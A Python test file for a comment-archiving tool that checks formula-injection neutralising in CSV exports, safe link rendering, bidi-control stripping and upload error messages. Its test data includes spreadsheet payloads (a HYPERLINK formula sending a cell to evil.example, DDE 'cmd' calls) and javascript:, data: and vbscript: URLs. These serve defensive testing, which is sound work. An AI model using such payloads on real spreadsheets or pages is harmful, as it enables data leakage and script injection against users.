"""Input hygiene: spreadsheet formulas in CSV exports, links and bidi controls in pages, server
paths in errors, and the generic importer's column mapping on the upload page."""

import csv
import io

from tests.web.conftest import csrf_of

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C notepad'!A0",
           "-2+3", "\tleading tab", "\rcarriage return", "a plain comment", "a = b + c"]


def hostile_case(otk, tmp_path):
    otk("case", "new", "h1", "--subject", "Someone")
    src = tmp_path / "rows.csv"
    with open(src, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["id", "body", "who"])
        for i, text in enumerate(HOSTILE):
            w.writerow([f"c{i}", text, "=evil()" if i == 0 else f"user{i}"])
    otk("import", "--case", "h1", "--format", "generic", "--map", "id=id,text=body,author=who", src)
    return "h1"


def exported(output: str) -> dict[str, dict]:
    return {r["platform_id"]: r for r in csv.DictReader(io.StringIO(output))}


def test_csv_exports_neutralise_formula_cells(otk, tmp_path):
    case = hostile_case(otk, tmp_path)
    rows = exported(otk("export", "--case", case, "--format", "csv").output)
    texts = [rows[f"c{i}"]["text"] for i in range(len(HOSTILE))]
    assert texts == ["'" + t for t in HOSTILE[:6]] + HOSTILE[6:]
    assert rows["c0"]["author"] == "'=evil()"
    assert rows["c1"]["likes"] == "" and rows["c1"]["platform"] == "other"  # other cells untouched


def test_neutralising_can_be_switched_off_and_jsonl_is_never_changed(otk, tmp_path):
    import json

    case = hostile_case(otk, tmp_path)
    rows = exported(otk("export", "--case", case, "--format", "csv", "--no-neutralise").output)
    assert [rows[f"c{i}"]["text"] for i in range(len(HOSTILE))] == HOSTILE
    lines = [json.loads(x) for x in otk("export", "--case", case, "--format", "jsonl").output.splitlines()]
    assert sorted(r["text"] for r in lines) == sorted(HOSTILE)


def test_the_export_help_says_so(otk):
    out = otk("export", "--help").output
    assert "--no-neutralise" in out and "apostrophe" in out


def test_the_web_export_is_neutralised_too(as_role, demo_home):
    import sqlite3

    con = sqlite3.connect(demo_home / "otklik.sqlite")
    cid = con.execute("SELECT id FROM comment ORDER BY id LIMIT 1").fetchone()[0]
    con.execute("UPDATE comment SET text='=HYPERLINK(\"http://evil.example\")' WHERE id=?", (cid,))
    con.commit()
    con.close()
    e = as_role("eve")
    r = e.post("/cases/demo/export", data={"format": "csv", "csrf": csrf_of(e)})
    texts = [row["text"] for row in csv.DictReader(io.StringIO(r.text))]
    assert "'=HYPERLINK(\"http://evil.example\")" in texts
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))]


# ------------------------------------------------------------ links and bidi controls in pages

def tamper(home, sql, *args):
    import sqlite3

    con = sqlite3.connect(home / "otklik.sqlite")
    con.execute(sql, args)
    con.commit()
    con.close()


def first_comment(home):
    import sqlite3

    con = sqlite3.connect(home / "otklik.sqlite")
    row = con.execute("SELECT id, post_id FROM comment ORDER BY id LIMIT 1").fetchone()
    con.close()
    return row


def test_only_http_links_are_rendered(as_role, demo_home):
    cid, post_id = first_comment(demo_home)
    v = as_role("vic")
    tamper(demo_home, "UPDATE post SET url='https://example.org/p/1' WHERE id=?", post_id)
    assert 'href="https://example.org/p/1"' in v.get(f"/cases/demo/comments/{cid}").text
    for bad in ("javascript:alert(document.cookie)", " JavaScript:alert(1)", "java\tscript:alert(1)",
                "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x"):
        tamper(demo_home, "UPDATE post SET url=? WHERE id=?", bad, post_id)
        for page in (f"/cases/demo/comments/{cid}", "/cases/demo"):
            html = v.get(page).text
            assert "script:" not in html.lower().replace("script-src", "") and "data:text" not in html
            assert "evil.example" not in html


def test_bidi_overrides_cannot_reverse_the_page(as_role, demo_home):
    import re

    v = as_role("vic")
    cid = re.search(r'/cases/demo/comments/(\d+)"', v.get("/cases/demo/comments").text).group(1)  # the list's first
    text = "\u202eesrever\u202c in the middle \u2067isolated\u2069 end"
    tamper(demo_home, "UPDATE comment SET text=? WHERE id=?", text, cid)
    detail = v.get(f"/cases/demo/comments/{cid}").text
    assert "<bdi>esrever in the middle isolated end</bdi>" in detail  # the text, isolated, controls dropped
    listing = v.get("/cases/demo/comments").text
    assert "esrever in the middle isolated end" in listing
    for html in (detail, listing):
        assert not any(ch in html for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


# ------------------------------------------------------------ uploads: the generic mapping, no server paths

SHEET = "ид;Сообщение;Кто;Когда\n1;Свободу ему;anna;2026-11-20 10:00:00\n2;Пусть судят;boris;2026-11-20 11:30:00\n"


def editor_on_new_case(home, otk, app_factory):
    from starlette.testclient import TestClient

    from tests.web.conftest import login

    otk("case", "new", "g1", "--subject", "Someone")
    c = TestClient(app_factory(home))
    login(c, "eve")
    return c


def upload(c, data, name="sheet.csv", body=SHEET):
    return c.post("/cases/g1/upload", data={"csrf": csrf_of(c), **data},
                  files=[("files", (name, body.encode("utf-8"), "text/csv"))], follow_redirects=False)


def test_the_upload_page_offers_the_generic_mapping(home, otk, app_factory):
    c = editor_on_new_case(home, otk, app_factory)
    page = c.get("/cases/g1/upload").text
    for field in ("text", "author", "time", "id", "post", "parent", "likes", "url"):
        assert f'name="map_{field}"' in page
    assert '<option selected>other</option>' in page and "<option>telegram</option>" in page


def test_a_generic_csv_imports_through_the_form_mapping(home, otk, app_factory):
    from tests.web.test_web import wait_job

    c = editor_on_new_case(home, otk, app_factory)
    r = upload(c, {"format": "generic", "map_text": "Сообщение", "map_author": "Кто", "map_time": "Когда",
                   "map_id": "ид", "platform": "telegram"})
    assert r.status_code == 303, r.text
    job = wait_job(c, r.headers["location"])
    assert job["status"] == "done", job
    assert job["lines"][0].startswith("sheet.csv: generic")  # the file's name, not where the server keeps it
    rows = exported(otk("export", "--case", "g1", "--format", "csv").output)
    assert {(k, r["platform"], r["author"], r["text"]) for k, r in rows.items()} == {
        ("1", "telegram", "anna", "Свободу ему"), ("2", "telegram", "boris", "Пусть судят")}


def test_the_generic_format_without_a_text_column_is_refused_in_words(home, otk, app_factory):
    c = editor_on_new_case(home, otk, app_factory)
    r = upload(c, {"format": "generic", "map_author": "Кто"})
    assert r.status_code == 400 and "the column that holds the comment&#39;s text" in r.text
    assert upload(c, {"format": "generic", "map_text": "Сообщение", "platform": "myspace"}).status_code == 400
    assert not list((home / "uploads").rglob("*.csv")) if (home / "uploads").exists() else True


def test_a_failed_import_names_the_file_but_no_server_folder(home, otk, app_factory):
    from tests.web.test_web import wait_job

    c = editor_on_new_case(home, otk, app_factory)
    r = upload(c, {"format": "generic", "map_text": "body"})  # a column the file does not have
    job = wait_job(c, r.headers["location"])
    assert job["status"] == "failed"
    text = "\n".join(job["lines"])
    assert "sheet.csv" in text and "body" in text and "Сообщение" in text  # the file's columns are listed
    assert str(home) not in text and str(home.resolve()) not in text and "uploads/" not in text
    page = c.get(r.headers["location"]).text
    assert str(home.resolve()) not in page and "sheet.csv" in page
